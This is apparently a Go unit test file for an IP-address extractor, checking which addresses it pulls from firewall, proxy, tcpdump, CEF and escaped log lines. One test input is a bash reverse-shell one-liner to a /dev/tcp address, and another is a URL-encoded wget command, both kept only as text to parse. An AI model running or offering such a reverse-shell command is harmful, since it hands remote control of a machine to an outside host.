package iptext

import (
	"strings"
	"testing"
)

// Each of these is as the program writes it. A port that is taken for the length of a network would hide the address.
func TestAddressesInTheFormsOfLogs(t *testing.T) {
	t.Parallel()
	const asa = "Nov 28 04:00:00 fw : %ASA-6-302013: Built "
	for text, want := range map[string]string{
		// A port after a slash.
		asa + "outside:203.0.113.10/51234 (203.0.113.10/51234) to inside:10.0.0.5/22 (198.51.100.66/22)":              "203.0.113.10 203.0.113.10 10.0.0.5 198.51.100.66",
		asa + "outside:2001:db8::1/21 (2001:db8::1/21) to inside:2001:db8::2/80":                                      "2001:db8::1 2001:db8::1 2001:db8::2",
		"%ASA-6-302021: Teardown ICMP connection for faddr 203.0.113.25/0 gaddr 203.0.113.26/8 laddr 10.0.0.7/8(any)": "203.0.113.25 203.0.113.26 10.0.0.7",
		"%FTD-6-106100: access-list x denied tcp outside/203.0.113.29(1234) -> inside/10.0.0.8(443) hit-cnt 1":        "203.0.113.29 10.0.0.8",
		"%ASA-5-111008: User 'x' executed the 'ipv6 route outside 2001:db8::/32 2001:db8:1::1' command.":              "2001:db8::/32 2001:db8:1::1",
		"%ASA-6-302013: x\n10.0.0.5/22": "10.0.0.0/22", // another line
		// The same without what is before the message.
		"Built outbound TCP connection 1 for outside:203.0.113.10/443 (203.0.113.10/443) to inside:10.0.0.5/22 (198.51.100.66/22)": "203.0.113.10 203.0.113.10 10.0.0.5 198.51.100.66",
		"Deny tcp src outside:203.0.113.10/22 dst inside:10.0.0.5/22 by access-group":                                              "203.0.113.10 10.0.0.5",
		"Inbound TCP connection denied from 203.0.113.10/22 to 10.0.0.5/22 flags SYN on interface outside":                         "203.0.113.10 10.0.0.5",
		"Deny inbound UDP from 203.0.113.10/22 to 10.0.0.5/22":                                                                     "203.0.113.10 10.0.0.5",
		"TCP outside: 203.0.113.10/22 inside: 10.0.0.5/22,":                                                                        "203.0.113.10 10.0.0.5",
		"permit tcp from 203.0.113.0/24 to 198.51.100.0/25":                                                                        "203.0.113.0/24 198.51.100.0/25",
		// Objects of firewalls, and the versions of packages.
		"source static obj-198.51.100.5 HOST_203.0.113.20 H-203.0.113.21 net-203.0.113.0/24":                                         "198.51.100.5 203.0.113.20 203.0.113.21 203.0.113.0/24",
		"linux-5.4.0.1 my_obj-1.2.3.4 libip-1.2.3.4 ghost_1.2.3.4":                                                                   "",
		"RT_FLOW_SESSION_CREATE: session created 203.0.113.10/51234->198.51.100.66/22 0x0 junos-ssh 203.0.113.10/51234->10.0.0.5/22": "203.0.113.10 198.51.100.66 203.0.113.10 10.0.0.5",
		"match PASS domain-c8/1001 IN 60 TCP 203.0.113.10/51234->10.0.0.5/22 S":                                                      "203.0.113.10 10.0.0.5",
		"10.0.0.0/8->192.168.0.0/16 x/->10.0.0.5/22 ->10.0.0.6/22":                                                                   "10.0.0.0 192.168.0.0/16 10.0.0.0/22 10.0.0.0/22",
		"outside/203.0.113.29(1234)": "",

		// The names of programs before the lines that they write, and before their versions.
		`Nov 28 04:00:00 web1 nginx: 203.0.113.10 - - [28/Nov/2026:04:00:00 +0000] "GET / HTTP/1.1"`: "203.0.113.10",
		"apache: 203.0.113.10 fw-edge: 203.0.113.11, fw-edge 203.0.113.12, python=203.0.113.13":      "203.0.113.10 203.0.113.11 203.0.113.12 203.0.113.13",
		`{"k":"ip","v":"203.0.113.10"} <v>203.0.113.11</v>`:                                          "203.0.113.10 203.0.113.11",
		"nginx 1.2.3.4 (openssl 1.1.1.1) os-version: 1.2.3.4 firmware=1.2.3.4 x-build: 1.2.3.4":      "",
		`<FileVersion>10.0.1.2</FileVersion> <Version>1.2.3.4<x> appver="7.0.1.2"`:                   "",
		"with Microsoft SMTP Server (TLS) id 15.1.225.42; Tue":                                       "",
		"id 15.1.225.42": "15.1.225.42",
		"bash -i >& /dev/tcp/203.0.113.10/22 0>&1; cat < /dev/udp/203.0.113.11/53; ls /dev/x/1.2.3.4/5": "203.0.113.10 203.0.113.11",

		// The addresses of interfaces, as ip and ifconfig write them, and routes.
		"    inet 203.0.113.10/24 brd 203.0.113.255 scope global eth0":              "203.0.113.10 203.0.113.255",
		"    inet6 2001:db8::1/64 scope global; inet6 addr: 2001:db8::2/64 Scope:G": "2001:db8::1 2001:db8::2",
		"inet6 addr:2001:db8::1/64 inet 127.0.0.1/8 inet 203.0.113.0/24":            "2001:db8::1 127.0.0.1 203.0.113.0/24",
		"203.0.113.10/24 via 192.0.2.1 net inet: 203.0.113.10/24":                   "203.0.113.0/24 192.0.2.1 203.0.113.0/24",

		// Squid's hierarchy.
		"GET http://x.example/ - HIER_DIRECT/198.51.100.66 text/html":       "198.51.100.66",
		"CONNECT x.example:443 - FIRSTUP_PARENT/192.0.2.44 -":               "192.0.2.44",
		"GET http://x.example/ - DIRECT/2001:db8::1 -":                      "2001:db8::1",
		"REDIRECT_CLIENT/1.2.3.4 x/DIRECT/1.2.3.4 HIER_DIRECT/1.2.3.4.5 x ": "",

		// tcpdump with -v, where the addresses are on a line of their own, and with -e.
		"    203.0.113.11.51234 > 198.51.100.67.443: Flags [S], cksum 0x1234":                   "203.0.113.11 198.51.100.67",
		"    2001:db8::1.51234 > 2001:db8::2.https: Flags [S]":                                  "2001:db8::1 2001:db8::2",
		"ethertype IPv4 (0x0800), length 74: 203.0.113.14.51234 > 198.51.100.69.443: Flags [S]": "203.0.113.14 198.51.100.69",
		"1.2.3.4.5 > 1.2.3.5: x, 1.2.3.4.5 > 6, 1.2.3.4.5 > ":                                   "1.2.3.5",
		"1.2.3.4.5 > 1.2.3.6.443; 1.2.3.4.5 > x: 1.2.3.4.5 > 2001:db8::1.":                      "2001:db8::1",

		// The version of the product, and what only looks like its place.
		"<134>x CEF:0|Example|Firewall|10.1.2.3|100|x|5|src=203.0.113.10 cs1=7.1.2.3|x": "203.0.113.10 7.1.2.3",
		`CEF:0|Exa\|mple|Firewall|10.1.2.3|100|203.0.113.10|5|`:                         "203.0.113.10",
		"LEEF:2.0|Example|OS|10.1.2.3|x|^|src=203.0.113.10^dst=198.51.100.66":           "203.0.113.10 198.51.100.66",
		"a|b|c|203.0.113.10|d":                                 "203.0.113.10",
		`{\"version\": \"1.2.3.4\", \"ip\": \"203.0.113.10\"}`: "203.0.113.10",

		// Characters that the programs which write logs do not write as they are, before the address and after it.
		"Source Network Address:#011203.0.113.10#011#011Source Port:#01151234":                                 "203.0.113.10", // a tab, by rsyslog
		"MSWinEventLog#0111#011Security#0112001:db8::1#011#177203.0.113.10":                                    "2001:db8::1",
		`"POST /x" 200 "{\x22ip\x22:\x22203.0.113.10\x22,\x22ip6\x22:\x222001:db8::1\x22}"`:                    "203.0.113.10 2001:db8::1", // by nginx
		`{\x5C\x22ip\x5C\x22:\x5C\x22203.0.113.10\x5C\x22} \x0A203.0.113.11 \xC2\xA0203.0.113.12`:              "203.0.113.10 203.0.113.11 203.0.113.12",
		`cmd=wget+http:\x5C/\x5C/203.0.113.10/24 wget%20http:%5C/%5C/203.0.113.11/24`:                          "203.0.113.10 203.0.113.11",
		`%C2%A0203.0.113.10 \u00a0203.0.113.11 \011203.0.113.12\011 ip=3D203.0.113.13`:                         "203.0.113.10 203.0.113.11 203.0.113.12 203.0.113.13",
		`x203.0.113.10 \x2203.0.113.10 #11203.0.113.10 \1203.0.113.10 \x.203.0.113.10 =3d1.2.3.4 x\xg01.2.3.4`: "",

		// Regular expressions of web servers, and versions.
		`RewriteCond %{REMOTE_ADDR} ^203\.0\.113\.10$ [OR]`:                   "203.0.113.10",
		`SetEnvIf X-Forwarded-For "^203.0.113.10$" bad; ~^203\.0\.113\.11 1;`: "203.0.113.10 203.0.113.11",
		`"example/package": "^1.2.3.4", "~1.2.3.4", ^203\.0\.113\.`:           "",

		// Hosts and their addresses, as Java writes them, and versions.
		"HttpHostConnectException: Connect to a.example:443 [a.example/203.0.113.10, a.example/203.0.113.11] failed": "203.0.113.10 203.0.113.11",
		"ConnectException: failed to connect to bogon/203.0.113.10 (port 7080) from /192.168.1.2 (port 40000)":       "203.0.113.10 192.168.1.2",
		"Socket[addr=a.example/203.0.113.10,port=443,localport=1] a.example/203.0.113.11:443":                        "203.0.113.10 203.0.113.11",
		"[Example.Agent/1.2.3.4] [com.example.agent/1.2.3.4] [agent/1.2.3.4] a.example/1.2.3.4 [a.example/1.2.3.4 x": "",
		"agent=a/1.2.3.4, addr=a/1.2.3.4] x a.b/1.2.3.4] [.ab/1.2.3.4] [a/1.2.3.4":                                   "",

		// Marks of chats, and the types of attributes.
		"_192.0.2.44_ __192.0.2.45__ ~~192.0.2.46~~ (_192.0.2.47_)":                  "192.0.2.44 192.0.2.45 192.0.2.46 192.0.2.47",
		"a_1.2.3.4_ _1.2.3.4_b _1.2.3.4 1.2.3.4_ ___1.2.3.4__ ~1.2.3.4~ _1.2.3.4.5_": "",
		"subject=2.5.4.17=12345, 2.5.4.5=#1306, ip=2.5.4.9":                          "2.5.4.9",
	} {
		if got := strings.Join(found(text), " "); got != want {
			t.Errorf("%q:\n got %q\nwant %q", text, got, want)
		}
	}
}

// Web pages, chats and word processors put characters without a width beside dots.
func TestInvisibleCharactersBesideDots(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"198\u200b.51.\u200b100\u2060.\ufeff66.\u00ad":      "198.51.100.66",
		"198.51.100.66\u200b, \u200e192.0.2.1\u202c\u200b.": "198.51.100.66 192.0.2.1",
		"1.2.3.4\u200b.example.com":                         "", "1.2.3\u200b4": "", "1\u200b.2": "", "1.2.3.4.\u200b5": "", "\u200b": "", "1.\xe2": "",
	} {
		if got := strings.Join(found(text), " "); got != want {
			t.Errorf("%q: got %q, want %q", text, got, want)
		}
	}
}
